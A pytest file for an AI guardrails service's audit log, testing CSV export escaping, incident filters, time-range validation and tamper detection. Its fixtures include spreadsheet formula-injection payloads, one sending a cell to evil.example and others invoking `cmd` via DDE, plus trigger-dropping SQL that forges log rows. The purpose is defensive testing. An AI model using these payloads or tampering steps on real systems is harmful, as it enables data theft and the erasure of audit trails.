"""The audit log as a security/compliance team uses it: exports opened in a spreadsheet, incident look-ups by check
id and category, time ranges that cannot silently select nothing, and `verify` on a log someone tampered with.

PostgreSQL's reader test runs when GUARDRAILS_TEST_POSTGRES_URL is set (e.g. postgresql://postgres@127.0.0.1/test).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml
from fastapi.testclient import TestClient
from openai_payloads import tool_call_response

from detectors.secret import SecretDetector
from guardrails.audit import AuditFilter, open_audit_store
from guardrails.cli import main
from guardrails.config import Settings
from guardrails.serve import build_app

PG_URL = os.environ.get("GUARDRAILS_TEST_POSTGRES_URL")
TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
FORMULAS = {
    "tenant": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "session_id": "-2+3+cmd|' /C calc'!A0",
    "agent_id": "+travel-agent",
}


def settings(tmp_path: Path, **overrides: Any) -> Settings:
    policy = tmp_path / "policies" / "default"
    policy.mkdir(parents=True, exist_ok=True)
    (policy / "config.yml").write_text(yaml.safe_dump({"detectors": {"tool_undeclared": {"action": "block"},
                                                                     "secret": {}}}))
    return Settings(policy_dir=tmp_path / "policies", data_dir=tmp_path / "var", **overrides)


def body(i: int, *, tool: str = "get_weather", content: str = "Weather in Paris?", tenant: str = "acme",
         context: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "request": {
            "model": "Qwen/Qwen3-8B",
            "messages": [{"role": "user", "content": content}],
            "tools": [{"type": "function", "function": {"name": "get_weather", "parameters": {}}}],
        },
        "response": tool_call_response(tool, {"city": "Paris"}, id=f"chatcmpl-{i}", model="Qwen/Qwen3-8B",
                                       usage={"prompt_tokens": 50, "completion_tokens": 20}),
        "context": context or {"agent_id": "travel-agent", "session_id": f"s-{i}", "tenant": tenant, "user": "u-1"},
    }


def checked(client: TestClient, payload: dict[str, Any]) -> dict[str, Any]:
    resp = client.post("/v1/checks", json=payload)
    assert resp.status_code == 200, resp.text
    return resp.json()


def audit_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'var' / 'audit.sqlite3'}"


# --- exports opened in a spreadsheet ------------------------------------------------------------------------

def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    with TestClient(build_app(settings(tmp_path))) as client:
        checked(client, body(1, context=FORMULAS))
    url = audit_url(tmp_path)
    assert main(["audit", "export", "--url", url, "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["tenant"] == "'" + FORMULAS["tenant"] and row["user"] == "'" + FORMULAS["user"]
    assert row["session"] == "'" + FORMULAS["session_id"] and row["agent"] == "'" + FORMULAS["agent_id"]
    assert row["verdict"] == "allow" and row["input_tokens"] == "50"  # plain values untouched
    # The JSON lines keep what was recorded, and the filters match it.
    assert main(["audit", "export", "--url", url, "--tenant", FORMULAS["tenant"]]) == 0
    (line,) = capsys.readouterr().out.splitlines()
    assert json.loads(line)["tenant"] == FORMULAS["tenant"]


# --- incident look-ups ------------------------------------------------------------------------------------------

def test_check_id_and_category_filters_select_exactly(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with TestClient(build_app(settings(tmp_path))) as client:
        clean = checked(client, body(1))
        leak_a = checked(client, body(2, content=f"deploy with token {TOKEN} please"))
        undeclared = checked(client, body(3, tool="rm_rf"))
        leak_b = checked(client, body(4, content=f"the CI token is {TOKEN}"))
        assert [c["verdict"] for c in (clean, leak_a, undeclared, leak_b)] == ["allow", "block", "block", "block"]

        def ids(**params: Any) -> list[str]:
            resp = client.get("/v1/audit/records", params=params)
            assert resp.status_code == 200, resp.text
            return [r["check_id"] for r in resp.json()["records"]]

        assert ids(check_id=undeclared["check_id"]) == [undeclared["check_id"]]
        assert ids(check_id="chk_00000000000000000000000000000000") == []
        assert ids(category="secret") == [leak_a["check_id"], leak_b["check_id"]]
        assert ids(category="tool_undeclared", verdict="block") == [undeclared["check_id"]]
        first = client.get("/v1/audit/records", params={"category": "secret", "limit": 1}).json()
        second = client.get("/v1/audit/records", params={"category": "secret", "limit": 1,
                                                         "cursor": first["next_cursor"]}).json()
        assert [r["check_id"] for r in first["records"] + second["records"]] == [leak_a["check_id"],
                                                                                 leak_b["check_id"]]
        assert second["next_cursor"] is None
        assert client.get("/v1/audit/records", params={"category": "secrets"}).status_code == 422
    url = audit_url(tmp_path)
    assert main(["audit", "export", "--url", url, "--check-id", leak_b["check_id"], "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["check_id"] == leak_b["check_id"] and row["categories"] == "secret"
    assert main(["audit", "export", "--url", url, "--category", "secret"]) == 0
    exported = [json.loads(line)["check_id"] for line in capsys.readouterr().out.splitlines()]
    assert exported == [leak_a["check_id"], leak_b["check_id"]]


def test_the_category_filter_reads_the_findings_not_the_same_bytes_elsewhere(tmp_path: Path) -> None:
    store = open_audit_store(audit_url(tmp_path))
    try:
        for i in range(1, 8):
            finding = {"action": "block", "category": "secret", "detector": "secret", "end": 40, "pointer":
                       "/request/messages/0/content", "score": 1.0, "severity": "critical", "start": 18}
            record = {"v": 1, "check_id": f"chk_{i}", "ts": 1_767_225_600.0 + i, "tenant": "acme",
                      "verdict": "block" if i % 3 == 0 else "allow", "findings": [finding] if i % 3 == 0 else []}
            if i % 3:  # the same bytes outside the findings (a signal with such a key): not a secret finding
                record["budget"] = {"category": "secret"}
            store.submit(record).result(timeout=10)
        filt = AuditFilter(category="secret")
        assert [r.record()["check_id"] for r in store.iter_records(filt, batch=2)] == ["chk_3", "chk_6"]
        page = store.page(filt, limit=1)
        assert [r.seq for r in page.records] == [3] and page.next_cursor == "3"
        page = store.page(filt, page.next_cursor, limit=1)
        assert [r.seq for r in page.records] == [6] and page.next_cursor is None
    finally:
        store.close()


def test_unknown_audit_query_parameters_are_refused_not_ignored(tmp_path: Path) -> None:
    with TestClient(build_app(settings(tmp_path))) as client:
        checked(client, body(1))
        checked(client, body(2, context={"tenant": "globex", "agent_id": "a", "session_id": "s", "user": "u-2"}))
        for params in ({"tennant": "acme"}, {"user": "u-2"}, {"tenant": "acme", "finding": "secret"}):
            resp = client.get("/v1/audit/records", params=params)
            assert resp.status_code == 422, params
            assert resp.json()["error"]["type"] == "invalid_body"
            assert next(iter(set(params) - {"tenant"})) in resp.json()["error"]["message"]
        assert client.get("/v1/audit/verify", params={"anchr": "1:" + "a" * 64}).status_code == 422
        assert len(client.get("/v1/audit/records", params={"tenant": "globex"}).json()["records"]) == 1


# --- time ranges ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("since", "until", "said"), [
    ("1767225600000", None, "epoch milliseconds"),  # what a JavaScript or Grafana clock hands over
    ("20260101", None, "ambiguous"),  # ISO 8601 basic date, or epoch seconds in 1970?
    ("nan", None, "not a time"),
    (None, "inf", "not a time"),
    ("2026-02-01", "2026-01-01", "after until"),  # swapped
])
def test_times_that_would_select_nothing_or_everything_are_refused(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], since: str | None, until: str | None, said: str) -> None:
    with TestClient(build_app(settings(tmp_path))) as client:
        checked(client, body(1))
        params = {k: v for k, v in (("since", since), ("until", until)) if v is not None}
        resp = client.get("/v1/audit/records", params=params)
        assert resp.status_code == 422 and said in resp.json()["error"]["message"]
    args = [f"--{k}={v}" for k, v in params.items()]
    assert main(["audit", "export", "--url", audit_url(tmp_path), *args]) == 4
    assert said in capsys.readouterr().err
    assert main(["audit", "export", "--url", audit_url(tmp_path), "--since", "2026-01-01", "--until",
                 "2999-01-01T00:00:00Z"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 1


# --- verify on a log someone tampered with -----------------------------------------------------------------------

def _log(tmp_path: Path, n: int) -> Path:
    with TestClient(build_app(settings(tmp_path, audit_content="redacted"))) as client:  # closing folds the WAL
        for i in range(n):
            checked(client, body(i, content=f"step {i}: " + "what is the weather like in Paris today? " * 20))
    return tmp_path / "var" / "audit.sqlite3"


def _tamper(db: Path, *statements: str) -> None:
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("DROP TRIGGER IF EXISTS audit_records_no_update")
    conn.execute("DROP TRIGGER IF EXISTS audit_records_no_delete")
    for statement in statements:
        conn.execute(statement)
    conn.close()


def test_verify_reports_a_damaged_sqlite_file_as_a_problem_of_the_log(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = _log(tmp_path, 30)
    conn = sqlite3.connect(db)
    (root,) = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'audit_records'").fetchone()
    (page_size,) = conn.execute("PRAGMA page_size").fetchone()
    conn.close()
    with db.open("r+b") as f:  # bytes overwritten in the file itself, not through SQL
        f.seek((root - 1) * page_size)
        f.write(b"\xff" * 16)
    assert main(["audit", "verify", "--url", f"sqlite:///{db}"]) == 1
    out = capsys.readouterr().out
    assert "damaged" in out and "malformed" in out and "FAILED" in out
    assert main(["audit", "verify", "--url", f"sqlite:///{db}", "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert not report["ok"] and [p["kind"] for p in report["problems"]] == ["damaged"]


def test_verify_sees_a_row_numbered_below_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = _log(tmp_path, 3)
    forged = json.dumps({"v": 1, "check_id": "chk_forged", "ts": 1767225600.0, "verdict": "allow"})
    _tamper(db, "INSERT INTO audit_records (seq, check_id, ts, tenant, agent, session, verdict, body, prev_hash, "
                f"hash) VALUES (0, 'chk_forged', 1767225600, 'acme', 'travel-agent', 's-0', 'allow', '{forged}', "
                f"'{'0' * 64}', '{'0' * 64}')")
    assert main(["audit", "verify", "--url", f"sqlite:///{db}"]) == 1
    out = capsys.readouterr().out
    assert "TAMPERED record 0 (chk_forged): inserted" in out and "3 record(s)" not in out


def test_verify_names_a_rewritten_record_whose_hash_was_recomputed(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = _log(tmp_path, 4)
    conn = sqlite3.connect(db)
    seq, prev, body_bytes = conn.execute("SELECT seq, prev_hash, body FROM audit_records WHERE seq = 2").fetchone()
    conn.close()
    rewritten = bytes(body_bytes).replace(b'"user":"u-1"', b'"user":"u-9"')
    digest = hashlib.sha256(f"{seq}:{prev}:".encode() + rewritten).hexdigest()
    _tamper(db, f"UPDATE audit_records SET body = x'{rewritten.hex()}', hash = '{digest}' WHERE seq = 2")
    assert main(["audit", "verify", "--url", f"sqlite:///{db}"]) == 1
    out = capsys.readouterr().out
    assert "record 3" in out and "record 2 was rewritten" in out  # not only "record 3 was inserted"


@pytest.mark.skipif(not PG_URL, reason="needs GUARDRAILS_TEST_POSTGRES_URL (e.g. postgresql://postgres@127.0.0.1/test)")
def test_postgres_readers_never_create_the_table_they_were_asked_to_read(
        capsys: pytest.CaptureFixture[str]) -> None:
    import psycopg

    assert PG_URL
    table = f"audit_missing_{uuid.uuid4().hex[:12]}"
    url = f"{PG_URL}{'&' if '?' in PG_URL else '?'}table={table}"
    try:
        assert main(["audit", "verify", "--url", url]) == 4
        assert main(["audit", "export", "--url", url]) == 4
        err = capsys.readouterr().err
        assert f"no audit log table '{table}'" in err and "OK" not in err
        with psycopg.connect(PG_URL, autocommit=True) as conn:
            assert conn.execute("SELECT to_regclass(%s)", (table,)).fetchone() == (None,)
        writer = open_audit_store(url)  # the service creates it
        writer.submit({"check_id": "chk_1", "ts": 1.0, "verdict": "allow"}).result(timeout=10)
        writer.close()
        assert main(["audit", "verify", "--url", url]) == 0
        assert capsys.readouterr().out.startswith("OK: 1 record(s)")
    finally:
        with psycopg.connect(PG_URL, autocommit=True) as conn:
            conn.execute(f"DROP TABLE IF EXISTS {table}")
            conn.execute(f"DROP TABLE IF EXISTS {table}_meta")  # the high-water mark beside the log
            conn.execute(f"DROP FUNCTION IF EXISTS {table}_append_only()")
            conn.execute(f"DROP FUNCTION IF EXISTS {table}_meta_guard()")


# --- what a record tells a reviewer ----------------------------------------------------------------------------

def test_a_detector_error_record_says_what_kind_without_its_message(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: SecretDetector, segment: Any) -> list[Any]:
        raise ValueError(f"cannot scan {segment.text!r}")  # a message that quotes the checked text

    monkeypatch.setattr(SecretDetector, "analyze", broken)
    with TestClient(build_app(settings(tmp_path))) as client:
        answer = checked(client, body(1, content=f"deploy with token {TOKEN} please"))
        assert any(f["category"] == "detector_error" for f in answer["findings"])
        (record,) = client.get("/v1/audit/records").json()["records"]
    (error,) = [f for f in record["findings"] if f["category"] == "detector_error"]
    assert error["detector"] == "secret" and error["error"] == "ValueError"
    assert TOKEN not in json.dumps(record) and "cannot scan" not in json.dumps(record)
